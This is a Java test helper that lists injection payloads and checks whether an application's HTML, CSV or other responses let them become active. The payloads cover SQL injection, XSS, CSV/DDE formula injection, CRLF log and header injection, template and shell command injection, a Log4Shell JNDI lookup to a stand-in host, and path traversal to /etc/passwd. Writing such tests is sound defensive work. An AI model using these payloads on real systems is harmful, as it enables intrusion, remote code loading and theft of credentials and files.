package nl.krachtketen.kit.test;

import java.util.List;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Stream;

/** Texts that do something where somebody forgets that they are texts, and how it is seen that they did. */
final class Injections {

    /** Stands in every text and in nothing else. */
    static final String MARK = "kRk9";
    private static final Pattern FORMULA = Pattern.compile("(?m)(?:^|[,;])\"?[=+@\\t\\r-][^,;\\n]*" + MARK);
    private static final List<String> MARKUP =
            List.of("<script>" + MARK, "<img src=x onerror=" + MARK, "href=\"javascript:" + MARK, "onmouseover=\"" + MARK);
    /** What came of a sum that a template or a shell worked out. */
    private static final String WORKED_OUT = "1764" + MARK;

    private Injections() {}

    static List<String> texts() {
        return Stream.of("'; drop table participant; --%s", "' or 1=1 --%s", "\\'; select pg_sleep(20); --%s", "1); select 1/0; --%s",
                "<script>%s</script>", "\"><img src=x onerror=%s>", "\" onmouseover=\"%s", "javascript:%s", "</title><script>%s</script>",
                "=HYPERLINK(\"http://elsewhere.example\";\"%s\")", "+%s", "-2+3+cmd|' /C calc'!A0%s", "@SUM(1)%s", "\t=1%s", "'=1%s",
                "%s\r\n2026-01-01 00:00:00,000 ERROR [nl.krachtketen] all data lost", "\u001b[2J%s", "%s\r\nX-Planted: yes",
                "{42*42}%s", "${42*42}%s", "#{42*42}%s", "{{42*42}}%s", "<%%= 42*42 %%>%s", "$(expr 42 \\* 42)%s", "`id`%s",
                "${jndi:ldap://elsewhere.example/%s}", "{config:property('quarkus.datasource.password')}%s", "%%n%%s%%x%s",
                "../../../../etc/passwd%s", "\u202e%s", "a".repeat(500) + "%s").map(text -> text.formatted(MARK)).toList();
    }

    /** What became active in an answer, if anything did. */
    static Stream<String> activeIn(String mediaType, String body) {
        Stream<String> markup = mediaType.startsWith("text/html") ? MARKUP.stream().filter(body::contains) : Stream.empty();
        Stream<String> formulas = mediaType.startsWith("text/csv") ? FORMULA.matcher(body).results().map(MatchResult::group)
                : Stream.empty();
        Stream<String> sums = body.contains(WORKED_OUT) ? Stream.of(WORKED_OUT) : Stream.empty();
        boolean isGuessed = body.contains(MARK) && !mediaType.matches("(?:application/(?:problem\\+|x-nd)?json|text/html|text/csv).*");
        return Stream.of(markup, formulas, sums, isGuessed ? Stream.of("as " + mediaType) : Stream.<String>empty()).flatMap(found -> found);
    }
}
